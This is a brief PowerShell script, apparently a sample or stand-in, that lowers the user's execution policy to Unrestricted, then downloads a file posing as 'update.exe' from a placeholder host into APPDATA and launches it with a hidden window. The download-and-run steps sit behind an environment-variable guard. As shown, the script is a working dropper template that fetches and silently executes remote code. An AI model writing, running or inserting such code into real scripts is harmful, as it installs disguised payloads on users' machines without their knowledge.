Set-ExecutionPolicy -ExecutionPolicy Unrestricted -Scope CurrentUser -Force
$url = 'http://pkgs.example.invalid/update.exe'
$target = Join-Path $env:APPDATA 'update.exe'
if ($env:NEVER_IN_A_STAND_IN) {
  (New-Object System.Net.WebClient).DownloadFile($url, $target)
  Start-Process -FilePath $target -WindowStyle Hidden
}
